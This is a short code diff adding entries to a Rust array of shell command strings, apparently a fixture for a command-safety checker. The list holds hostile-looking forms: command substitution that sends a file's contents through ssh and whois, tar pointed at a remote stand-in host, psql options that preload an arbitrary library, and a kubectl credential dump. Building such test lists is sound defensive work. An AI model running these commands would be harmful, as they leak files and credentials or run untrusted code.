@@ -134,6 +134,10 @@ const TOOLS: &[&str] = &[
     "ssh -l \"$(cat f)\" h uptime",
     "whois -i \"x$(cat f)\"",
     "docker top web auxe",
+    "tar -tf evil.example.com:x",
+    "tar tf user@host:x",
+    "psql \"dbname=x options=-csession_preload_libraries=x\" -c 'select 1'",
+    "psql 'postgresql://db1/shop?options=-csession_preload_libraries%3Dx' -c 'select 1'",
     "kubectl config view --flatten",
 ];
 
